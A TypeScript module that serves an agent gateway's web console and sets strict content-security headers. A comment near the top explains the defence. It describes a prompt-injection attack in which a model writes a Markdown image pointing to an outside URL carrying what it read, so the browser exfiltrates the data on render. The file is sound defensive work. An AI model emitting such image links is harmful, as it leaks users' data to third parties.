import { existsSync, readdirSync } from 'node:fs'
import path from 'node:path'
import type { FastifyInstance } from 'fastify'
import { forwardTo, innerApp, onFirstUse } from './inner-app.js'

/** Where `vite build web` puts the console (the same place from src/http and from dist/http). */
export const consoleDir = path.resolve(import.meta.dirname, '../../dist/web')

/**
 * The web console at `/`: the files Vite built. Hashed assets are cached for a year (their names change
 * with their content); index.html is revalidated every time so a new build is picked up at once.
 * The files hold no data: every call they make carries the token, and the API checks it.
 * @fastify/static (and glob, which it loads) serve them from an inner app (http/inner-app.ts) built on the first
 * request for one of them, so an idle server does not load them.
 */
/** The console's files are open without a token: they hold no data (see auth.ts). */
const page = { schema: { hide: true }, config: { public: true } }

/**
 * What the console's pages may load and who may frame them. The console shows agent text as Markdown (sanitized,
 * markdown.tsx), and DOMPurify keeps `<img src>` and `style` of any URL: without a policy, a model (prompt
 * injection, a hostile repository) that wrote `![](https://elsewhere/?d=<what it read>)` had the browser send it
 * there as soon as the answer showed, from a read-only run whose commands have no network. So everything loads
 * from the gateway itself (images also as data: and blob: URLs), the console's calls go to it only, and no other
 * page may frame it (a frame of another origin could lead the user's clicks to Accept or Cancel).
 */
export const consoleSecurityHeaders: Readonly<Record<string, string>> = {
  'content-security-policy': [
    "default-src 'self'",
    "script-src 'self'",
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "connect-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'none'",
    "frame-ancestors 'none'",
  ].join('; '),
  'x-frame-options': 'DENY',
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'no-referrer',
}

export async function registerConsole(app: FastifyInstance, dir = consoleDir): Promise<void> {
  if (!existsSync(path.join(dir, 'index.html'))) {
    app.get('/', page, async (_request, reply) =>
      reply
        .status(503)
        .type('text/plain; charset=utf-8')
        .send(
          'The web console is not built: run `npm run build:web` (`npm ci` does it), then restart the server.\n',
        ),
    )
    return
  }
  const files = onFirstUse(async () => {
    const { default: fastifyStatic } = await import('@fastify/static')
    const inner = innerApp()
    await inner.register(fastifyStatic, {
      root: dir,
      prefix: '/',
      wildcard: false,
      index: ['index.html'],
      cacheControl: false,
      setHeaders(reply, filePath) {
        for (const [name, value] of Object.entries(consoleSecurityHeaders)) reply.header(name, value)
        reply.header(
          'cache-control',
          filePath.includes(`${path.sep}assets${path.sep}`)
            ? 'public, max-age=31536000, immutable'
            : 'no-cache',
        )
      },
    })
    await inner.ready()
    return inner
  })
  // The paths that can be the console's, by its directory's top level: each file, everything under each folder.
  const forward = forwardTo(files)
  app.get('/', page, forward)
  for (const entry of readdirSync(dir, { withFileTypes: true }))
    app.get(entry.isDirectory() ? `/${entry.name}/*` : `/${entry.name}`, page, forward)
}
